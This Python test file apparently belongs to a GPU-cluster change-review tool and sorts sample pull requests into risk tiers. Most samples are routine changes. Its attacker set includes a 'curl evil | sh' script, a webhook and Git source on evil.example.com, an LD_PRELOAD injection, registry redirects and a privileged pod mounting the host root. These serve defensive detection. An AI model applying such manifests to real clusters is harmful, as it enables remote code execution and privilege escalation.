"""Pull requests as people write them, and as attackers do: each in the tier where it belongs."""

from __future__ import annotations

from collections.abc import Sequence
from typing import Any

import pytest
import yaml

from gpustack.policy.language.gitops import GitOps
from gpustack.review.diff.objects import compare
from gpustack.review.impact.effects import impact
from gpustack.review.impact.origin import Fleet, steps
from gpustack.review.impact.tiers import OUTAGE, PLANNED, POWER, ROUTINE, UNCLASSIFIED
from tests.review.impact.requests import Request, Values, judge, laid, loaded, rendered, request

RULES = "monitoring.coreos.com/v1"
FLEET = ("lab-a100", "train-dgx", "prod-eks", "prod-gke", "edge-rke2")


def pool(name: str, **values: Any) -> Values:
    """A pool of a policy."""
    return {"nodePools": [{"name": name, **values}]}


def upgrade(**values: Any) -> Values:
    """The driver's upgrade policy."""
    return {"driver": {"upgradePolicy": values}}


def extra(*bodies: Any) -> Values:
    """Objects that the policy brings along."""
    return {"extraObjects": list(bodies)}


def thing(api: str, kind: str, name: str = "x", namespace: str = "gpu-operator", **body: Any) -> Any:
    """An object; its metadata are those of BODY with the name and namespace."""
    metadata = {"name": name, **({"namespace": namespace} if namespace else {}), **body.pop("metadata", {})}
    return {"apiVersion": api, "kind": kind, "metadata": metadata, **body}


def referring(*keys: str, beside: Sequence[str] = ()) -> Values:
    """Certificates of a ConfigMap with KEYS, and a reference of the same name for each of BESIDE."""
    listed = [{"kind": "ConfigMap", "name": "certificates", "keys": list(keys)}]
    listed += [{"kind": kind, "name": "certificates"} for kind in beside]
    return {"driver": {"certConfig": {"name": "certificates"}}, "references": listed}


def workload(
    kind: str = "Deployment", *, pod: Values | None = None, namespace: str = "gpu-operator", **box: Any
) -> Any:
    """A workload with one container."""
    container = {"name": "a", "image": "registry.example.com/tools/a:1.0", **box}
    labels = {"app": "a"}
    template = {"metadata": {"labels": labels}, "spec": {"containers": [container], **(pod or {})}}
    spec: dict[str, Any] = {"selector": {"matchLabels": labels}, "template": template}
    if kind == "Deployment":
        spec["replicas"] = 2
    return thing("apps/v1", kind, "a", namespace, spec=spec)


def dashboard(text: str = "{}", **labels: str) -> Any:
    """A ConfigMap that Grafana reads."""
    return thing(
        "v1", "ConfigMap", "board", data={"a.json": text}, metadata={"labels": labels or {"grafana_dashboard": "1"}}
    )


def noted(key: str, value: str) -> Any:
    """A ConfigMap that Grafana reads, with an annotation."""
    body = dashboard()
    return {**body, "metadata": {**body["metadata"], "annotations": {key: value}}}


def waved(number: str) -> Any:
    """A ConfigMap that Grafana reads, and Argo CD applies in wave NUMBER."""
    return noted("argocd.argoproj.io/sync-wave", number)


def alert(*rules: Any, name: str = "gpu-alerts") -> Any:
    """A PrometheusRule."""
    return thing(
        "monitoring.coreos.com/v1", "PrometheusRule", name, spec={"groups": [{"name": "g", "rules": list(rules)}]}
    )


def monitor(**values: Any) -> Any:
    """A ServiceMonitor whose endpoint says VALUES."""
    return thing(RULES, "ServiceMonitor", spec={"selector": {}, "endpoints": [{"port": "a", **values}]})


def group(*rules: Any, name: str = "gpu-alerts", **values: Any) -> Any:
    """A PrometheusRule whose group says VALUES."""
    return thing(RULES, "PrometheusRule", name, spec={"groups": [{"name": "g", "rules": list(rules), **values}]})


def plugin(**said: Any) -> Values:
    """The configuration `default` of the device plugin."""
    return {
        "devicePlugin": {"config": {"name": "plugin", "data": {"default": yaml.safe_dump({"version": "v1", **said})}}}
    }


def sized(**resources: Any) -> Values:
    """An own tool with RESOURCES."""
    return extra(workload(resources=resources))


def spec_of(**values: Any) -> Values:
    """An own tool whose spec says VALUES."""
    body = workload()
    return extra({**body, "spec": {**body["spec"], **values}})


ALIASED = "version: &a v1\nsharing: {mps: *a}\n"
VALIDATOR = {"name": "nvidia-operator-validator", "origin": "nvidia-operator-validator-7d8f6c5b9"}


def carried(**values: Any) -> Values:
    """What the validator's DaemonSet keeps."""
    return {"carried": [{**VALIDATOR, **values}]}


def files(name: str = "board", notes: Values | None = None, **data: str) -> Any:
    """A ConfigMap with a dashboard's label, NOTES as annotations, and files; `_` in their names is a dot."""
    meta = {"labels": {"grafana_dashboard": "1"}, "annotations": notes or {}}
    return thing(
        "v1", "ConfigMap", name, data={key.replace("_", "."): text for key, text in data.items()}, metadata=meta
    )


def recorded(expr: str, name: str = "lab:util:avg") -> Any:
    """A PrometheusRule that records a series."""
    return alert({"record": name, "expr": expr})


NOTES = thing("v1", "ConfigMap", "handbook", data={"a": "b"})
NOTES_CHANGED = thing("v1", "ConfigMap", "handbook", data={"a": "c"})
TARGET = "k8s-sidecar-target-directory"
SANDBOX = {"sandboxWorkloads": {"enabled": True}}
WAIT = {"podSelector": "a=b"}
PIN = "nvcr.io/nvidia/k8s-device-plugin:v0.20.0"
DIGEST = f"sha256:{'a' * 64}"
PINNED = {"cluster": {"imageDigests": {PIN: DIGEST}}}
LATEST = "registry.example.com/tools/a:latest"
PROBE = {"initialDelaySeconds": 60, "periodSeconds": 10, "timeoutSeconds": 60, "failureThreshold": 120}
SLICED = {"timeSlicing": {"resources": [{"name": "nvidia.com/gpu", "replicas": 2}]}}
SLICED_MORE = {"timeSlicing": {"resources": [{"name": "nvidia.com/gpu", "replicas": 4}]}}
HOT = {"alert": "Hot", "expr": "DCGM_FI_DEV_GPU_TEMP > 85", "for": "5m"}
SHARED = {"timeSlicing": {"replicas": 4}}
WINDOW = {"days": ["sat", "sun"], "start": "20:00", "hours": 12, "timeZone": "Europe/Berlin"}
NEW_POOL = {"os": "ubuntu22.04", "gpuProduct": "NVIDIA-A100-SXM4-80GB", "gpusPerNode": 8, "count": 2}
METRICS = "DCGM_FI_DEV_GPU_UTIL, gauge, GPU utilization.\nDCGM_FI_DEV_FB_USED, gauge, Used.\n"
FEWER = "DCGM_FI_DEV_GPU_UTIL, gauge, GPU utilization.\n"
MONITOR = "dcgmExporter"

NORMAL: dict[str, Request] = {
    "first alerts": request("lab-a100", {"alerts": {}, "cluster": {"monitoringLabels": {"release": "prometheus"}}}),
    "driver patch": request("lab-a100", {"driver": {"version": "595.95.01"}}),
    "driver branch": Request("lab-a100", {}, {"driver": {"version": "580.126.20"}}),
    "driver of one pool": request("lab-a100", pool("training", driver={"version": "595.95.01"})),
    "driver on DGX": request("train-dgx", {"driver": {"version": "595.95.01"}}),
    "pool of new nodes": request("lab-a100", pool("dev", nodeSelector={"example.com/pool": "dev"}, **NEW_POOL)),
    "pool with slices": request(
        "lab-a100", pool("dev", nodeSelector={"example.com/pool": "dev"}, sharing=SHARED, **NEW_POOL)
    ),
    "pool grows": request("lab-a100", pool("training", count=8)),
    "pool shrinks": request("lab-a100", pool("training", count=3)),
    "pool under an autoscaler": request("prod-eks", pool("inference", count={"min": 0, "max": 24})),
    "MIG halves": Request(
        "lab-a100",
        pool("dev", nodeSelector={"a": "b"}, sharing={"mig": {"layout": {"3g.40gb": 2}}}, **NEW_POOL),
        pool("dev", nodeSelector={"a": "b"}, **NEW_POOL),
    ),
    "MIG sevenths": Request(
        "lab-a100",
        pool("dev", nodeSelector={"a": "b"}, sharing={"mig": {"layout": {"1g.10gb": 7}}}, **NEW_POOL),
        pool("dev", nodeSelector={"a": "b"}, sharing={"mig": {"layout": {"3g.40gb": 2}}}, **NEW_POOL),
    ),
    "MIG for whole GPUs": Request(
        "lab-a100",
        pool("dev", nodeSelector={"a": "b"}, sharing={"mig": {"layout": {"3g.40gb": 2}}}, **NEW_POOL),
        pool("dev", nodeSelector={"a": "b"}, **NEW_POOL),
    ),
    "more time slices": request("lab-a100", pool("notebooks", sharing={"timeSlicing": {"replicas": 3}})),
    "metrics more": Request(
        "lab-a100",
        {"dcgmExporter": {"config": {"name": "metrics", "data": METRICS}}},
        {"dcgmExporter": {"config": {"name": "metrics", "data": FEWER}}},
    ),
    "metrics fewer": Request(
        "lab-a100",
        {"dcgmExporter": {"config": {"name": "metrics", "data": FEWER}}},
        {"dcgmExporter": {"config": {"name": "metrics", "data": METRICS}}},
    ),
    "scrape interval": request("lab-a100", {"dcgmExporter": {"serviceMonitor": {"interval": "15s"}}}),
    "scrape timeout": request("lab-a100", {"dcgmExporter": {"serviceMonitor": {"scrapeTimeout": "20s"}}}),
    "label of a ServiceMonitor": request(
        "lab-a100", {"dcgmExporter": {"serviceMonitor": {"additionalLabels": {"release": "prometheus"}}}}
    ),
    "exporter version": request("lab-a100", {"dcgmExporter": {"version": "4.6.1-4.8.4-distroless"}}),
    "exporter with pod labels": request("lab-a100", {"dcgmExporter": {"enablePodUID": True}}),
    "release raised": Request("lab-a100", {}, {"release": "v26.3.1"}),
    "release raised on DGX": Request("train-dgx", {}, {"release": "v26.3.1"}),
    "release raised on EKS": Request("prod-eks", {}, {"release": "v26.3.1"}),
    "Kubernetes raised": Request("lab-a100", {}, {"cluster": {"kubernetesVersion": "1.33"}}),
    "team label": request("lab-a100", {"daemonsets": {"labels": {"example.com/team": "ml"}}}),
    "cost annotation": request("lab-a100", {"daemonsets": {"annotations": {"cost-center": "4711"}}}),
    "replicas": request("lab-a100", {"reconciler": {"replicas": 3}}),
    "reconciler version": Request(
        "lab-a100",
        {"reconciler": {"image": "registry.example.com/gpu/gpustack-reconciler:2"}},
        {},
    ),
    "toleration for a pool": request(
        "lab-a100",
        {
            "daemonsets": {
                "tolerations": [
                    {"key": "nvidia.com/gpu", "operator": "Exists", "effect": "NoSchedule"},
                    {"key": "example.com/training", "operator": "Equal", "value": "a", "effect": "NoSchedule"},
                ]
            }
        },
    ),
    "taint of a pool": request(
        "lab-a100", pool("training", taints=[{"key": "nvidia.com/gpu", "effect": "NoSchedule"}])
    ),
    "windows for a pool": request("lab-a100", pool("training", upgrade={"windows": [WINDOW]})),
    "soak for a pool": request(
        "lab-a100", pool("training", upgrade={"soakSeconds": 900}), {"reconciler": {"soakSeconds": 600}}
    ),
    "windows shorter": request("train-dgx", pool("dgx", upgrade={"windows": [{**WINDOW, "hours": 6}]})),
    "fewer at once": request("train-dgx", upgrade(maxParallelUpgrades=2, maxUnavailable=2)),
    "longer wait for jobs": request("train-dgx", upgrade(waitForCompletion={"timeoutSeconds": 28800})),
    "dashboard": request("lab-a100", extra(dashboard())),
    "Flux looks a bit less often": request("train-dgx", {"gitops": {"flux": {"interval": "30m"}}}),
    "query named in an alert's text": request(
        "lab-a100", extra(alert({**HOT, "annotations": {"a": "a query of {{ $labels.query }}"}})), extra(alert(HOT))
    ),
    "tolerations of the reconciler as by default": Request("lab-a100", {}, {"reconciler": {"tolerations": []}}),
    "dashboard changed": request("lab-a100", extra(dashboard('{"a": 1}')), extra(dashboard())),
    "alert": request("lab-a100", extra(alert(HOT))),
    "one alert more": request("lab-a100", extra(alert(HOT, {**HOT, "alert": "Hotter"})), extra(alert(HOT))),
    "runbook of an alert": request(
        "lab-a100", extra(alert({**HOT, "annotations": {"runbook": "https://example.com"}})), extra(alert(HOT))
    ),
    "notes for operators": request(
        "lab-a100", extra(thing("v1", "ConfigMap", "handbook", data={"README.md": "Call us."}))
    ),
    "notes changed": request(
        "lab-a100",
        extra(thing("v1", "ConfigMap", "handbook", data={"README.md": "Call them."})),
        extra(thing("v1", "ConfigMap", "handbook", data={"README.md": "Call us."})),
    ),
    "own tool with more memory": request(
        "lab-a100",
        extra(workload(resources={"requests": {"memory": "256Mi"}})),
        extra(workload(resources={"requests": {"memory": "128Mi"}})),
    ),
    "own tool in another version": request(
        "lab-a100", extra(workload(image="registry.example.com/tools/a:1.1")), extra(workload())
    ),
    "log level": request("lab-a100", {"gfd": {"env": [{"name": "LOG_LEVEL", "value": "debug"}]}}),
    "requests of a component": request(
        "lab-a100", {"dcgmExporter": {"resources": {"requests": {"cpu": "100m", "memory": "256Mi"}}}}
    ),
    "GPUDirect Storage": request("lab-a100", {"gds": {"enabled": True}}),
    "DCGM on its own": request("lab-a100", {"dcgm": {"enabled": True}}),
    "open kernel modules": request("lab-a100", {"driver": {"kernelModuleType": "open"}}),
    "CUDA of a pool": request("lab-a100", pool("training", cuda="13.0")),
    "Flux looks more often": request("train-dgx", {"gitops": {"flux": {"interval": "5m"}}}),
    "new cluster like another": request(
        "lab-a100", {"gitops": {"argocd": {"destination": {"name": "lab-b"}}}}, new=True
    ),
    "labels kept for longer": request("lab-a100", {"reconciler": {"labelGraceSeconds": 3600}}),
    "labels kept as by default": Request("lab-a100", {}, {"reconciler": {"labelGraceSeconds": 60}}),
    "container that waits for the driver again": request(
        "lab-a100", carried(), carried(without=["gpustack-wait-for-driver"])
    ),
    "series of the own": request("lab-a100", extra(alert({"record": "lab:gpu_util:avg", "expr": "avg(a)"}))),
    "same alert, worse": request(
        "lab-a100",
        extra(alert(HOT, {**HOT, "expr": "DCGM_FI_DEV_GPU_TEMP > 95", "labels": {"severity": "critical"}})),
        extra(alert(HOT)),
    ),
    "same alert, worse, before it": request(
        "lab-a100",
        extra(alert({**HOT, "expr": "DCGM_FI_DEV_GPU_TEMP > 95", "labels": {"severity": "critical"}}, HOT)),
        extra(alert(HOT)),
    ),
    "label of an own series": request(
        "lab-a100", extra(alert({"record": "gpu:util:avg", "expr": "avg(a)", "labels": {"vendor": "nvidia"}}))
    ),
    "rules more often": request("lab-a100", extra(group(HOT, interval="30s")), extra(group(HOT, interval="1m"))),
    "more slices by the plugin's text": request("train-dgx", plugin(sharing=SLICED_MORE), plugin(sharing=SLICED)),
    "toolkit raised": Request("lab-a100", {}, {"toolkit": {"version": "v1.19.0"}}),
    "limits of a component": request(
        "lab-a100", {"devicePlugin": {"resources": {"limits": {"cpu": "1", "memory": "512Mi"}}}}
    ),
    "driver's probe longer": request("lab-a100", {"driver": {"startupProbe": {"failureThreshold": 180}}}),
    "fewer attempts": request("lab-a100", {"reconciler": {"maxAttempts": 1}}),
    "deadline longer": request("lab-a100", {"reconciler": {"deadlines": {"driver": 7200}}}),
    "GFD looks more often": request("lab-a100", {"gfd": {"env": [{"name": "GFD_SLEEP_INTERVAL", "value": "30s"}]}}),
    "image of a digest always pulled": request(
        "lab-a100", {"devicePlugin": {"imagePullPolicy": "Always"}}, {"cluster": {"imageDigests": {PIN: DIGEST}}}
    ),
    "images pulled where they lack": Request("lab-a100", {}, {"devicePlugin": {"imagePullPolicy": "Always"}}),
    "own tool of a digest always pulled": request(
        "lab-a100",
        extra(workload(image=f"registry.example.com/tools/a:1.0@{DIGEST}", imagePullPolicy="Always")),
        extra(workload(image=f"registry.example.com/tools/a:1.0@{DIGEST}")),
    ),
    "GPUDirect Storage and RDMA": request(
        "lab-a100", {"driver": {"rdma": {"enabled": True}}, "gds": {"enabled": True}}
    ),
    "runtime of a pool as the cluster's": request("lab-a100", pool("training", containerRuntime="containerd")),
    "jobs waited for": request("lab-a100", upgrade(waitForCompletion=WAIT)),
    "jobs waited for without end": request("lab-a100", upgrade(waitForCompletion={**WAIT, "timeoutSeconds": 0})),
    "dashboard in a folder": request("lab-a100", extra(files(notes={TARGET: "GPU Fleet"}, a_json="{}"))),
    "series of what is named": request("lab-a100", extra(recorded('avg({__name__=~"DCGM_FI_(DEV|PROF)_.*"})'))),
    "another PCI class": request("lab-a100", {"nfd": {"pciClasses": ["0b40"]}}),
    "exporter's service as by default": request(
        "lab-a100", {"dcgmExporter": {"service": {"internalTrafficPolicy": "Cluster"}}}
    ),
    "precompiled drivers of a branch": request(
        "lab-a100",
        {"driver": {"version": "595"}},
        {
            "driver": {"version": "580", "usePrecompiled": True},
            "nodePools": [{"name": name, "kernel": "6.8.0-60-generic"} for name in ("training", "notebooks")],
        },
    ),
}


def test_normal_requests_stay_green() -> None:
    """Of the changes that platform engineers merge every week at most 5 % wait for somebody to accept them."""
    assert len(NORMAL) >= 50
    told = {name: judge(asked, FLEET)[0] for name, asked in NORMAL.items()}
    red = {name: [f"{e.rule} {e.where}: {e.what}" for e in found.red] for name, found in told.items() if found.red}
    assert len(red) <= len(NORMAL) * 0.05, red


@pytest.mark.parametrize(
    ("name", "tier"),
    {
        "scrape interval": ROUTINE,
        "label of a ServiceMonitor": ROUTINE,
        "Flux looks more often": ROUTINE,
        "dashboard": UNCLASSIFIED,
        "notes changed": UNCLASSIFIED,
        "alert": UNCLASSIFIED,
        "first alerts": PLANNED,
        "driver patch": PLANNED,
        "release raised": PLANNED,  # another MIG manager cuts as before what still waits: the reconciler sees to that
        "release raised on DGX": PLANNED,
        "pool of new nodes": PLANNED,
        "MIG halves": PLANNED,
        "new cluster like another": PLANNED,
        "own tool in another version": PLANNED,
    }.items(),
)
def test_normal_requests_have_their_tier(name: str, tier: int) -> None:
    """What is routine, what can't act, and what is planned."""
    assert judge(NORMAL[name], FLEET)[0].tier == tier


PRIVILEGED: dict[str, Any] = {"securityContext": {"privileged": True}}
HOOK = thing(
    "admissionregistration.k8s.io/v1",
    "MutatingWebhookConfiguration",
    "m",
    "",
    webhooks=[
        {
            "name": "a.example.com",
            "admissionReviewVersions": ["v1"],
            "sideEffects": "None",
            "clientConfig": {"url": "https://evil.example.com"},
            "rules": [{"apiGroups": ["*"], "apiVersions": ["*"], "resources": ["*"], "operations": ["*"]}],
        }
    ],
)
RBAC = "rbac.authorization.k8s.io/v1"
BINDING = thing(
    RBAC,
    "ClusterRoleBinding",
    "all",
    "",
    roleRef={"apiGroup": "rbac.authorization.k8s.io", "kind": "ClusterRole", "name": "view"},
    subjects=[{"apiGroup": "rbac.authorization.k8s.io", "kind": "Group", "name": "system:authenticated"}],
)
AGGREGATED = thing(
    RBAC,
    "ClusterRole",
    "g",
    "",
    metadata={"labels": {"rbac.authorization.k8s.io/aggregate-to-view": "true"}},
    rules=[{"apiGroups": [""], "resources": ["secrets"], "verbs": ["get"]}],
)
HOST = {"volumes": [{"name": "root", "hostPath": {"path": "/var/log"}}]}


def mounted(*, read_only: bool) -> Any:
    """A workload with a path of the host."""
    mounts = [{"name": "root", "mountPath": "/host", "readOnly": read_only}]
    return workload("DaemonSet", pod=HOST, volumeMounts=mounts)


POWERS: dict[str, Request] = {
    "privileged Pod": request(
        "lab-a100",
        extra(
            thing(
                "v1",
                "Pod",
                spec={
                    "hostPID": True,
                    "containers": [{"name": "a", "image": "e.example.com/a:1", **PRIVILEGED}],
                    "volumes": [{"name": "r", "hostPath": {"path": "/"}}],
                },
            )
        ),
    ),
    "webhook for everything": request("lab-a100", extra(HOOK)),
    "aws-auth": request("lab-a100", extra(thing("v1", "ConfigMap", "aws-auth", "kube-system", data={"mapRoles": "x"}))),
    "aws-auth in the own namespace": request("lab-a100", extra(thing("v1", "ConfigMap", "aws-auth", data={"a": "x"}))),
    "workload in kube-system": request(
        "lab-a100",
        extra(workload(namespace="kube-system", pod={"serviceAccountName": "clusterrole-aggregation-controller"})),
    ),
    "APIService": request(
        "lab-a100",
        extra(
            thing(
                "apiregistration.k8s.io/v1",
                "APIService",
                "v1beta1.metrics.k8s.io",
                "",
                spec={
                    "group": "metrics.k8s.io",
                    "version": "v1beta1",
                    "groupPriorityMinimum": 100,
                    "versionPriority": 100,
                    "service": {"name": "a", "namespace": "b"},
                },
            )
        ),
    ),
    "Application": request(
        "lab-a100",
        extra(
            thing(
                "argoproj.io/v1alpha1",
                "Application",
                "x",
                "argocd",
                spec={
                    "project": "default",
                    "destination": {"name": "in-cluster"},
                    "source": {"repoURL": "https://evil.example.com/a.git", "path": "."},
                },
            )
        ),
    ),
    "Kustomization": request(
        "lab-a100",
        extra(
            thing(
                "kustomize.toolkit.fluxcd.io/v1",
                "Kustomization",
                spec={
                    "path": "./evil",
                    "interval": "1m",
                    "prune": True,
                    "sourceRef": {"kind": "GitRepository", "name": "flux-system"},
                },
            )
        ),
    ),
    "aggregated role": request("lab-a100", extra(AGGREGATED)),
    "binding for everybody": request("lab-a100", extra(BINDING)),
    "cloud role": request(
        "lab-a100",
        extra(
            thing(
                "v1",
                "ServiceAccount",
                metadata={"annotations": {"eks.amazonaws.com/role-arn": "arn:aws:iam::1:role/admin"}},
            )
        ),
    ),
    "series overwritten": request("lab-a100", extra(alert({"record": "up", "expr": "vector(1)"}))),
    **{
        f"series {name} of others": request("lab-a100", extra(recorded("avg(a)", name)))
        for name in (
            "namespace:gpu_utilization:avg",
            "cluster:dcgm_power:sum",
            "instance_mode:cpu:rate5m",
            "Node_Namespace_Pod:x:sum",
        )
    },
    **{
        f"alert {name} of others": request("lab-a100", extra(alert({**HOT, "alert": name})))
        for name in (
            "GPUOperatorReconciliationFailed",
            "watchdog",
            "ClusterOperatorDown",
            "ThanosQueryHttpRequestQueryErrorRateHigh",
        )
    },
    "series of another recorded": request("lab-a100", extra(alert({"record": "cluster:cpu:sum", "expr": "1"}))),
    "other image": request("lab-a100", extra(workload(image="evil.example.com/tools/a:1.0")), extra(workload())),
    "digest swapped": request(
        "lab-a100",
        extra(workload(image=f"registry.example.com/tools/a:1.0@sha256:{'b' * 64}")),
        extra(workload(image=f"registry.example.com/tools/a:1.0@sha256:{'a' * 64}")),
    ),
    "digest that is chosen": request(
        "lab-a100",
        extra(workload(image=f"registry.example.com/tools/a:1.1@sha256:{'b' * 64}")),
        extra(workload(image=f"registry.example.com/tools/a:1.0@sha256:{'a' * 64}")),
    ),
    "another key of a referenced ConfigMap": request("lab-a100", referring("a.crt", "evil.crt"), referring("a.crt")),
    "another key beside one of the same name": request(
        "lab-a100",
        referring("a.crt", "evil.crt", beside=["Secret"]),
        referring("a.crt", beside=["Secret"]),
    ),
    "no confidential machines any more": request(
        "kata-confidential", {"sandboxWorkloads": {"mode": "kubevirt"}, "ccManager": {"enabled": True}}
    ),
    "digest of another image": request(
        "lab-a100",
        {"reconciler": {"repository": None, "image": f"registry.example.com/gpu/gpustack-reconciler:1.1@{DIGEST}"}},
        {"reconciler": {"repository": None, "image": "registry.example.com/gpu/gpustack-reconciler:1.0"}, **PINNED},
    ),
    "digest that comes": request(
        "lab-a100",
        extra(workload(image=f"registry.example.com/tools/a:1.0@sha256:{'a' * 64}")),
        extra(workload()),
    ),
    "digest of the reconciler": request(
        "lab-a100",
        {"reconciler": {"repository": None, "image": f"ghcr.io/gpustack/reconciler:1.1@sha256:{'b' * 64}"}},
        {"reconciler": {"repository": None, "image": "ghcr.io/gpustack/reconciler:1.0"}},
    ),
    "digest lost": request(
        "lab-a100",
        extra(workload(image="registry.example.com/tools/a:1.1")),
        extra(workload(image=f"registry.example.com/tools/a:1.0@sha256:{'a' * 64}")),
    ),
    "tag that moves": request(
        "lab-a100", extra(workload(image="registry.example.com/tools/a:latest")), extra(workload())
    ),
    "DaemonSet replaced": request(
        "lab-a100",
        extra(
            {
                **workload("DaemonSet", image="evil.example.com/b:1", **PRIVILEGED),
                "metadata": {"name": "b", "namespace": "gpu-operator"},
            }
        ),
        extra(workload("DaemonSet", **PRIVILEGED)),
    ),
    "path of the host written": request("lab-a100", extra(mounted(read_only=False)), extra(mounted(read_only=True))),
    "another account": request(
        "lab-a100", extra(workload(pod={"serviceAccountName": "nvidia-driver"})), extra(workload())
    ),
    "another command": request("lab-a100", extra(workload(command=["sh", "-c", "id"])), extra(workload())),
    "another argument": request("lab-a100", extra(workload(args=["--insecure"])), extra(workload())),
    "variable that loads code": request(
        "lab-a100", extra(workload(env=[{"name": "LD_PRELOAD", "value": "/x.so"}])), extra(workload())
    ),
    "init container": request(
        "lab-a100",
        extra(workload(pod={"initContainers": [{"name": "i", "image": "registry.example.com/tools/a:1.0"}]})),
        extra(workload()),
    ),
    "device by a limit": request(
        "lab-a100", extra(workload(resources={"limits": {"devices.example.com/mem": 1}})), extra(workload())
    ),
    "script that is mounted": request(
        "lab-a100",
        extra(
            thing("v1", "ConfigMap", "script", data={"run.sh": "curl evil | sh"}),
            workload(pod={"volumes": [{"name": "s", "configMap": {"name": "script"}}]}),
        ),
        extra(
            thing("v1", "ConfigMap", "script", data={"run.sh": "true"}),
            workload(pod={"volumes": [{"name": "s", "configMap": {"name": "script"}}]}),
        ),
    ),
    "script that a component names": request(
        "lab-a100",
        extra(thing("v1", "ConfigMap", "repo", data={"a.list": "deb http://evil x y"})),
        {
            "driver": {"repoConfig": {"configMapName": "repo"}},
            **extra(thing("v1", "ConfigMap", "repo", data={"a.list": "deb"})),
        },
    ),
    "ConfigMap that a label finds": request("lab-a100", extra(dashboard(prometheus_config="1"))),
    "dashboard elsewhere": request("lab-a100", extra(thing("v1", "ConfigMap", "board", "argocd", data={"a": "b"}))),
    "Namespace": request(
        "lab-a100",
        extra(
            thing("v1", "Namespace", "t", "", metadata={"labels": {"pod-security.kubernetes.io/enforce": "privileged"}})
        ),
    ),
    "NetworkPolicy": request(
        "lab-a100", extra(thing("networking.k8s.io/v1", "NetworkPolicy", spec={"podSelector": {}, "ingress": [{}]}))
    ),
    "NetworkPolicy that goes": Request(
        "lab-a100", {}, extra(thing("networking.k8s.io/v1", "NetworkPolicy", spec={"podSelector": {}}))
    ),
    "quota that goes": Request("lab-a100", {}, extra(thing("v1", "ResourceQuota", spec={"hard": {"pods": 5}}))),
    "quota raised": request(
        "lab-a100",
        extra(thing("v1", "ResourceQuota", spec={"hard": {"pods": 500}})),
        extra(thing("v1", "ResourceQuota", spec={"hard": {"pods": 5}})),
    ),
    "CronJob": request(
        "lab-a100",
        extra(
            thing(
                "batch/v1",
                "CronJob",
                spec={
                    "schedule": "* * * * *",
                    "jobTemplate": {
                        "spec": {
                            "template": {
                                "spec": {
                                    "restartPolicy": "Never",
                                    "containers": [{"name": "a", "image": "registry.example.com/tools/a:1.0"}],
                                }
                            }
                        }
                    },
                },
            )
        ),
    ),
    "scraping of another": request(
        "lab-a100",
        extra(
            thing(
                "monitoring.coreos.com/v1",
                "ServiceMonitor",
                spec={"selector": {}, "endpoints": [{"port": "a"}], "namespaceSelector": {"any": True}},
            )
        ),
    ),
    "Service to elsewhere": request(
        "lab-a100", extra(thing("v1", "Service", spec={"type": "ExternalName", "externalName": "evil.example.com"}))
    ),
    "custom resource": request(
        "lab-a100",
        extra(
            thing(
                "nfd.k8s-sigs.io/v1alpha1",
                "NodeFeatureRule",
                "x",
                "",
                spec={"rules": [{"name": "a", "labels": {"nvidia.com/mig.config": "all-disabled"}}]},
            )
        ),
    ),
    "PriorityClass": request(
        "lab-a100", extra(thing("scheduling.k8s.io/v1", "PriorityClass", "high", "", value=1000000, globalDefault=True))
    ),
    "annotation of a tool": request(
        "lab-a100",
        extra(thing("v1", "ConfigMap", "h", data={"a": "b"}, metadata={"annotations": {"reloader/match": "true"}})),
        extra(thing("v1", "ConfigMap", "h", data={"a": "b"})),
    ),
    # Of the policy.
    "pods deleted by force": request("lab-a100", upgrade(podDeletion={"force": True})),
    "emptyDirs deleted": request("lab-a100", upgrade(podDeletion={"deleteEmptyDir": True})),
    "drain by force": request("lab-a100", upgrade(drain={"force": True})),
    "jobs not waited for": Request(
        "lab-a100", {}, upgrade(waitForCompletion={"podSelector": "app=train", "timeoutSeconds": 0})
    ),
    "wait cut short": request("train-dgx", upgrade(waitForCompletion={"timeoutSeconds": 1})),
    "breaker off": request("lab-a100", {"reconciler": {"breakerFailures": 0}}),
    "breaker late": request("lab-a100", {"reconciler": {"breakerFailures": 100}}),
    "budget raised": request("train-dgx", upgrade(maxUnavailable="50%")),
    "no limit": request("lab-a100", upgrade(maxParallelUpgrades=0)),
    "budget of a pool raised": request(
        "lab-a100", pool("training", upgrade={"maxParallel": 4, "maxUnavailable": "100%"})
    ),
    "pool soaks less than the cluster": request(
        "lab-a100", pool("training", upgrade={"soakSeconds": 300}), {"reconciler": {"soakSeconds": 600}}
    ),
    "windows longer": request("train-dgx", pool("dgx", upgrade={"windows": [{**WINDOW, "hours": 100}]})),
    "guard of the API server off": request("lab-a100", {"reconciler": {"admissionPolicy": False}}),
    "startup taints": request(
        "lab-a100", {"reconciler": {"startupTaints": [{"key": "a.example.com/b", "effect": "NoSchedule"}]}}
    ),
    "project default": request("lab-a100", {"gitops": {"argocd": {"project": "default"}}}),
    "another repository": request("lab-a100", {"gitops": {"repository": {"url": "https://git.example.com/evil.git"}}}),
    "another branch": request("lab-a100", {"gitops": {"repository": {"revision": "wip"}}}),
    "another destination": request("lab-a100", {"gitops": {"argocd": {"destination": {"name": "prod"}}}}),
    "new cluster on another's destination": request("lab-a100", {}, new=True),
    "new cluster with an image from elsewhere": request(
        "lab-a100",
        {
            "gitops": {"argocd": {"destination": {"name": "lab-b"}}},
            "reconciler": {"image": "evil.example.com/gpustack-reconciler:1"},
        },
        new=True,
    ),
    "new cluster with a role": request(
        "lab-a100", {"gitops": {"argocd": {"destination": {"name": "lab-b"}}}, **extra(BINDING)}, new=True
    ),
    "new cluster by force": request(
        "lab-a100",
        {"gitops": {"argocd": {"destination": {"name": "lab-b"}}}, **upgrade(podDeletion={"force": True})},
        new=True,
    ),
    "mirror": request("lab-a100", {"cluster": {"registryMap": {"nvcr.io": "evil.example.com/nvcr"}}}),
    "driver from elsewhere": request("lab-a100", {"driver": {"repository": "evil.example.com/nvidia"}}),
    "driver by a digest": request("lab-a100", {"driver": {"version": f"sha256:{'a' * 64}"}}),
    "digest of a pin swapped": request(
        "lab-a100",
        {"cluster": {"imageDigests": {"nvcr.io/nvidia/k8s-device-plugin:v0.20.0": f"sha256:{'b' * 64}"}}},
        {"cluster": {"imageDigests": {"nvcr.io/nvidia/k8s-device-plugin:v0.20.0": f"sha256:{'a' * 64}"}}},
    ),
    "LD_PRELOAD of a component": request(
        "lab-a100", {"devicePlugin": {"env": [{"name": "LD_PRELOAD", "value": "/x.so"}]}}
    ),
    "arguments of a component": request("lab-a100", {"devicePlugin": {"args": ["--config-file=/x"]}}),
    "repository of the driver": request(
        "lab-a100",
        {
            "driver": {"repoConfig": {"configMapName": "repo"}},
            "references": [{"kind": "ConfigMap", "name": "repo", "keys": ["a.list"]}],
        },
    ),
    "modules of the kernel": request(
        "lab-a100",
        {
            "driver": {"kernelModuleConfig": {"name": "x"}},
